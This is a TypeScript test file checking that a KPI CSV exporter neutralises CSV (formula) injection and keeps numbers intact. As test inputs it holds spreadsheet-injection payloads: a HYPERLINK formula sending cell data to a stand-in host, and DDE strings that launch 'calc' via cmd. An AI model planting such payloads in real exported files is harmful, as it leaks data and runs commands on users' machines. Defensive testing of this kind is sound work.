// The KPI CSV is opened in spreadsheet programs: text that starts like a formula must stay text
// (OWASP, CSV injection), numbers must stay numbers, and every cell must read back as written.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from '../scripts/data-files.ts';
import type { KpiRow } from '../scripts/ingest/kpi/schema.ts';

/** A row of the 2024 report's table (source line 2391), with the name and unit under test. */
const row = (name: string, unit = '%', raw = '25.3'): KpiRow => ({
  report: '2024-sustainability-report',
  category: '员工',
  indicator: 'nv-xing-yuan-gong-bi-li',
  name,
  name_en: null,
  unit,
  year: 2024,
  value: 25.3,
  raw,
  qualifier: null,
  notes: '',
  source: { file: 'content/sources/2024-sustainability-report.txt', line: 2391 },
  from: 'table',
  section: null,
  repaired: null,
});

/** Reads one CSV record (RFC 4180 quoting) back into its cells. */
function readRecord(line: string): string[] {
  const cells: string[] = [];
  let at = 0;
  while (at <= line.length) {
    if (line[at] === '"') {
      let cell = '';
      for (at++; ; at++) {
        if (line[at] === '"' && line[at + 1] === '"') cell += '"', at++;
        else if (line[at] === '"') break;
        else cell += line[at];
      }
      cells.push(cell);
      at += 2;
    } else {
      const end = line.indexOf(',', at) < 0 ? line.length : line.indexOf(',', at);
      cells.push(line.slice(at, end));
      at = end + 1;
    }
  }
  return cells;
}

describe('csvCell', () => {
  it.each([
    ['=HYPERLINK("http://x.example/?"&A1,"点击")', `"'=HYPERLINK(""http://x.example/?""&A1,""点击"")"`],
    ['+1+cmd|\' /C calc\'!A0', "'+1+cmd|' /C calc'!A0"],
    ['-2+3+cmd|\' /C calc\'!A0', "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(1+1)*cmd|\' /C calc\'!A0', "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
  ])('escapes %j as text', (cell, written) => {
    expect(csvCell(cell)).toBe(written);
  });

  it.each(['-3.5', '-1,234', '+12', '-0.5%', '-1e-7', '-', '员工人数', '25.3', '1,234'])('leaves %j as printed', (cell) => {
    expect(csvCell(cell)).toBe(cell.includes(',') ? `"${cell}"` : cell);
  });

  it('writes numbers, null and undefined plainly', () => {
    expect([-3.5, 2024, null, undefined].map(csvCell)).toEqual(['-3.5', '2024', '', '']);
  });

  it('never writes a cell a spreadsheet reads as a formula, and every cell reads back', () => {
    const formulaLike = fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r'), fc.string()).map(([a, b]) => a + b);
    fc.assert(
      fc.property(fc.oneof(fc.string(), formulaLike), (text) => {
        const [back] = readRecord(csvCell(text));
        const escaped = back === `'${text}`;
        expect(escaped || back === text).toBe(true);
        // Escaped only what starts like a formula; left as written only where that is a signed number or the lone '-'.
        const formulaStart = /^[=+\-@\t\r]/.test(text);
        if (escaped) expect(formulaStart).toBe(true);
        else if (formulaStart) expect(text).toMatch(/^(?:[-+][\d.,]*\d[\d.,]*(?:e[-+]?\d+)?%?|-)$/);
      }),
      { numRuns: 2000 },
    );
  });
});

describe('toCsv', () => {
  it('escapes a hostile KPI name and unit in the file, and keeps a negative value a number', () => {
    const hostile = { ...row('=HYPERLINK("http://x.example","员工")', '@unit', '-3.5'), value: -3.5 };
    const [header, line] = toCsv([hostile]).replace(/^\uFEFF/, '').split('\r\n');
    const cells = readRecord(line!);
    const at = (column: string) => cells[header!.split(',').indexOf(column)];
    expect(at('name')).toBe(`'=HYPERLINK("http://x.example","员工")`);
    expect(at('unit')).toBe("'@unit");
    expect(at('value')).toBe('-3.5');
    expect(at('raw')).toBe('-3.5');
  });
});
